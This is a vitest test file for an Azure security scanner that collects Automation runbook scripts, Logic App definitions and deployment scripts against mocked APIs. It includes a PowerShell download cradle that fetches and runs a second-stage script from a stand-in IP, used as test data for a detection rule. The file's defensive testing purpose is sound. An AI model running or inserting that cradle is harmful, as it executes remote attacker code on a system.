/**
 * The live resources collector against nock, with azure-rest-api-specs example bodies
 * (test/fixtures/reference/SOURCES.md): Automation runbooks and their published and draft scripts
 * (text/powershell, not JSON), and Logic Apps / deployment scripts read again by id when their
 * Resource Graph row lacks the payload. The examples' subscriptions (`subid`, …) are replaced by
 * one GUID, since a live scope takes GUIDs only.
 */
import nock from "nock";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { derivePayloads, RUNBOOK_CONTENT_KEY } from "../../src/azure/enrich/payloads.js";
import { LiveScope } from "../../src/azure/live/scope.js";
import { ResourcesCollector } from "../../src/collectors/resources/index.js";
import { CoverageTally } from "../../src/collectors/tally.js";
import { Diagnostics } from "../../src/model/diagnostics.js";
import type { ArmResource, CollectedItem } from "../../src/model/records.js";
import { RecordPipeline } from "../../src/scan/pipeline.js";
import { armForbidden, exampleBody, packRule, testSession } from "../helpers.js";

const ARM = "https://management.example.test";
const SUB = "0b1f6471-1bf0-4dda-aec3-cb9272f09590";
const GRAPH = "/providers/Microsoft.ResourceGraph/resources";

type Json = Record<string, unknown>;
/** An example body moved into SUB (every `/subscriptions/<example's id>/` rewritten). */
function inSub<T>(body: T, exampleSub: string): T {
  return JSON.parse(JSON.stringify(body).replaceAll(`/subscriptions/${exampleSub}/`, `/subscriptions/${SUB}/`)) as T;
}

// Automation 2023-11-01 listRunbooksByAutomationAccount.json: three runbooks of ContoseAutomationAccount in rg.
const runbooks = inSub(exampleBody("listRunbooksByAutomationAccount.json") as { value: Json[] }, "subid");
// getRunbookContent.json / getRunbookDraftContent.json: the script, as a JSON string in the example.
const publishedScript = exampleBody("getRunbookContent.json") as string;
const draftScript = exampleBody("getRunbookDraftContent.json") as string;
// Logic 2019-05-01 Workflows_Get.json; Resources 2023-08-01 DeploymentScripts_Get.json.
const workflow = inSub(exampleBody("Workflows_Get.json") as Json, "34adfa4f-cedf-4dc0-ba29-b6d1a69ab345");
const deploymentScript = inSub(
  exampleBody("DeploymentScripts_Get.json") as Json,
  "00000000-0000-0000-0000-000000000000",
);

const ACCOUNT = `/subscriptions/${SUB}/resourceGroups/rg/providers/Microsoft.Automation/automationAccounts/ContoseAutomationAccount`;
const WORKFLOW_ID = workflow.id as string;
/** The example's id names …/deployments/…; a deployment script's id is …/deploymentScripts/… */
const SCRIPT_ID = `/subscriptions/${SUB}/resourceGroups/script-rg/providers/Microsoft.Resources/deploymentScripts/MyDeploymentScript`;

/**
 * A Resources-table row as Resource Graph returns it (ResourcesBasicQuery.json, Resource Graph
 * 2021-03-01: lower-cased type, subscriptionId, resourceGroup, properties as the provider gave them).
 */
function graphRow(id: string, type: string, properties: Json): Json {
  return {
    id,
    name: id.slice(id.lastIndexOf("/") + 1),
    type: type.toLowerCase(),
    tenantId: "72f988bf-86f1-41af-91ab-2d7cd011db47",
    kind: "",
    location: "eastus",
    resourceGroup: /\/resourceGroups\/([^/]+)/i.exec(id)?.[1]?.toLowerCase() ?? "",
    subscriptionId: SUB,
    managedBy: "",
    sku: null,
    plan: null,
    properties,
    tags: null,
    identity: null,
    zones: null,
    extendedLocation: null,
  };
}

/** A PowerShell download cradle: what an attacker's runbook runs (test data, never executed). */
const CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/stage2.ps1')";

const session = () => testSession(ARM);

async function collect(rows: Json[]) {
  const s = session();
  const c = new ResourcesCollector(s, new LiveScope(s, { subscriptions: [SUB] }));
  const plan = await c.plan();
  const tally = new CoverageTally();
  const items: CollectedItem[] = [];
  nock(ARM)
    .post(GRAPH)
    .query(true)
    .reply(200, { totalRecords: rows.length, count: rows.length, resultTruncated: "false", facets: [], data: rows });
  for await (const b of c.collect(plan, { tally, diagnostics: new Diagnostics() })) items.push(...b);
  return {
    coverage: tally.entries(),
    resources: items.filter((i): i is ArmResource => i.kind === "resource"),
  };
}

/** Runbook list, then each runbook's published and draft script with the given answers. */
function runbookReads(answers: Record<string, { published: [number, unknown]; draft: [number, unknown] }>) {
  const n = nock(ARM).get(`${ACCOUNT}/runbooks`).query({ "api-version": "2023-11-01" }).reply(200, runbooks);
  for (const [name, a] of Object.entries(answers)) {
    n.get(`${ACCOUNT}/runbooks/${name}/content`)
      .query({ "api-version": "2023-11-01" })
      .reply(a.published[0], a.published[1] as string, { "content-type": "text/powershell" })
      .get(`${ACCOUNT}/runbooks/${name}/draft/content`)
      .query({ "api-version": "2023-11-01" })
      .reply(a.draft[0], a.draft[1] as string, { "content-type": "text/powershell" });
  }
  return n;
}

const notFound = (what: string) => ({ error: { code: "NotFound", message: `${what} not found` } });

beforeAll(() => nock.disableNetConnect());
afterEach(() => nock.cleanAll());
afterAll(() => nock.enableNetConnect());

describe("live resources collector: Automation runbooks", () => {
  it("puts each runbook's published and draft script on its body; a 404 is no script, not a failure", async () => {
    const reads = runbookReads({
      "ASR-AddPublicIp": { published: [200, CRADLE], draft: [404, notFound("draft")] },
      AutoExport: { published: [404, notFound("content")], draft: [404, notFound("draft")] },
      "Get-AzureVMTutorial": { published: [200, publishedScript], draft: [200, draftScript] },
    });
    const { coverage, resources } = await collect([graphRow(ACCOUNT, "Microsoft.Automation/automationAccounts", {})]);
    expect(reads.isDone()).toBe(true);
    expect(coverage).toEqual([{ source: "resources", scope: `subscription ${SUB}`, status: "complete", records: 3 }]);
    const byName = new Map(resources.map((r) => [r.name, r]));
    expect([...byName.keys()]).toEqual(["ASR-AddPublicIp", "AutoExport", "Get-AzureVMTutorial"]);
    expect(byName.get("ASR-AddPublicIp")?.properties[RUNBOOK_CONTENT_KEY]).toEqual({ published: CRADLE });
    expect(byName.get("AutoExport")?.properties[RUNBOOK_CONTENT_KEY]).toBeUndefined();
    expect(byName.get("Get-AzureVMTutorial")?.properties[RUNBOOK_CONTENT_KEY]).toEqual({
      published: publishedScript,
      draft: draftScript,
    });

    // Both scripts become script payloads of the runbook, with the vector's T1648.
    const tutorial = byName.get("Get-AzureVMTutorial") as ArmResource;
    const payloads = derivePayloads(tutorial).filter((p) => p.payloadKind === "script");
    expect(payloads.map((p) => [p.path, p.resourceId, p.vector, p.vectorTechniques, p.source])).toEqual([
      [
        `properties.${RUNBOOK_CONTENT_KEY}.published`,
        tutorial.id,
        "Automation runbook",
        ["T1648"],
        { kind: "resource", id: tutorial.id },
      ],
      [
        `properties.${RUNBOOK_CONTENT_KEY}.draft`,
        tutorial.id,
        "Automation runbook",
        ["T1648"],
        { kind: "resource", id: tutorial.id },
      ],
    ]);
    expect(payloads[0]?.content).toContain("workflow Get-AzureVMTutorial");
  });

  it("a runbook whose script downloads and runs a second stage fires the download rule, the benign ones do not", async () => {
    runbookReads({
      "ASR-AddPublicIp": { published: [200, CRADLE], draft: [404, notFound("draft")] },
      AutoExport: { published: [404, notFound("content")], draft: [404, notFound("draft")] },
      "Get-AzureVMTutorial": { published: [200, publishedScript], draft: [200, draftScript] },
    });
    const { resources } = await collect([graphRow(ACCOUNT, "Microsoft.Automation/automationAccounts", {})]);
    const rule = await packRule("Recovered payload downloads and runs a second stage");
    const pipeline = new RecordPipeline({
      rules: rule.rules,
      correlations: rule.correlations,
      scanTime: "2026-01-01T00:00:00.000Z",
    });
    for (const r of resources) pipeline.push(r);
    const findings = pipeline.finish().filter((f) => f.ruleId === rule.subject.id);
    expect(findings.map((f) => f.resourceId)).toEqual([`${ACCOUNT}/runbooks/ASR-AddPublicIp`]);
    expect(findings[0]?.attack.techniques).toContain("T1648");
  });

  it("a refused script read leaves the subscription partial, naming the action; one reason per kind of read", async () => {
    const forbidden = armForbidden("Microsoft.Automation/automationAccounts/runbooks/content/read", SUB);
    runbookReads({
      "ASR-AddPublicIp": { published: [403, forbidden], draft: [404, notFound("draft")] },
      AutoExport: { published: [403, forbidden], draft: [404, notFound("draft")] },
      "Get-AzureVMTutorial": { published: [403, forbidden], draft: [200, draftScript] },
    });
    const { coverage, resources } = await collect([graphRow(ACCOUNT, "Microsoft.Automation/automationAccounts", {})]);
    // The runbooks and the readable draft are still kept.
    expect(resources).toHaveLength(3);
    expect(resources[2]?.properties[RUNBOOK_CONTENT_KEY]).toEqual({ draft: draftScript });
    expect(coverage).toHaveLength(1);
    const entry = coverage[0];
    expect(entry?.status).toBe("partial");
    expect(entry?.reason).toContain(
      `not authorised to read published runbook content of ${ACCOUNT}/runbooks/ASR-AddPublicIp`,
    );
    expect(entry?.reason).toContain(
      "grant the scanning identity Reader (Microsoft.Automation/automationAccounts/runbooks/content/read)",
    );
    expect(entry?.reason).toContain("(and 2 more reads of published runbook content like it)");
    expect(entry?.reason).not.toContain("draft");
  });

  it("keeps at most the payload cap of a script (+1 character, so extraction marks it truncated)", async () => {
    const long = `${CRADLE}\n${"#".repeat(200_000)}`;
    runbookReads({
      "ASR-AddPublicIp": { published: [200, long], draft: [404, notFound("draft")] },
      AutoExport: { published: [404, notFound("content")], draft: [404, notFound("draft")] },
      "Get-AzureVMTutorial": { published: [404, notFound("content")], draft: [404, notFound("draft")] },
    });
    const { resources } = await collect([graphRow(ACCOUNT, "Microsoft.Automation/automationAccounts", {})]);
    const kept = (resources[0]?.properties[RUNBOOK_CONTENT_KEY] as { published: string } | undefined)?.published ?? "";
    expect(kept.length).toBe(64 * 1024 + 1);
    const [p] = derivePayloads(resources[0] as ArmResource).filter((x) => x.payloadKind === "script");
    expect(p?.truncated).toBe(true);
    expect(p?.content.length).toBe(64 * 1024);
  });
});

describe("live resources collector: Logic Apps and deployment scripts", () => {
  it("reads a workflow again by id when its row has no definition; a row with the script is not read again", async () => {
    const { definition: _d, ...withoutDefinition } = workflow.properties as Json;
    const get = nock(ARM).get(WORKFLOW_ID).query({ "api-version": "2019-05-01" }).reply(200, workflow);
    const { coverage, resources } = await collect([
      graphRow(WORKFLOW_ID, "Microsoft.Logic/workflows", withoutDefinition),
      graphRow(SCRIPT_ID, "Microsoft.Resources/deploymentScripts", deploymentScript.properties as Json),
    ]);
    expect(get.isDone()).toBe(true);
    expect(coverage).toEqual([{ source: "resources", scope: `subscription ${SUB}`, status: "complete", records: 2 }]);
    const wf = resources.find((r) => r.typeLower === "microsoft.logic/workflows");
    expect(wf?.properties.definition).toEqual((workflow.properties as Json).definition);
    expect(wf?.origin.location).toBe(`${ARM}${WORKFLOW_ID}`);
    const ds = resources.find((r) => r.typeLower === "microsoft.resources/deploymentscripts") as ArmResource;
    expect(derivePayloads(ds).map((p) => [p.payloadKind, p.path])).toEqual([["script", "properties.scriptContent"]]);
  });

  it("a deployment script row without its script is read by id; the example's GET body (no type) keeps the row's id and type", async () => {
    const { scriptContent: _s, ...withoutScript } = deploymentScript.properties as Json;
    nock(ARM).get(SCRIPT_ID).query({ "api-version": "2023-08-01" }).reply(200, deploymentScript);
    const { resources, coverage } = await collect([
      graphRow(SCRIPT_ID, "Microsoft.Resources/deploymentScripts", withoutScript),
    ]);
    expect(coverage[0]?.status).toBe("complete");
    expect(resources.map((r) => [r.id, r.typeLower])).toEqual([[SCRIPT_ID, "microsoft.resources/deploymentscripts"]]);
    expect(resources[0]?.properties.scriptContent).toBe((deploymentScript.properties as Json).scriptContent);
  });

  it("a refused GET by id keeps the row, and the subscription is partial naming Microsoft.Logic/workflows/read", async () => {
    const { definition: _d, ...withoutDefinition } = workflow.properties as Json;
    nock(ARM)
      .get(WORKFLOW_ID)
      .query({ "api-version": "2019-05-01" })
      .reply(403, armForbidden("Microsoft.Logic/workflows/read", SUB));
    const { resources, coverage } = await collect([
      graphRow(WORKFLOW_ID, "Microsoft.Logic/workflows", withoutDefinition),
    ]);
    expect(resources).toHaveLength(1);
    expect(coverage[0]?.status).toBe("partial");
    expect(coverage[0]?.reason).toContain("not authorised to read Logic App definitions");
    expect(coverage[0]?.reason).toContain("Reader (Microsoft.Logic/workflows/read)");
  });
});
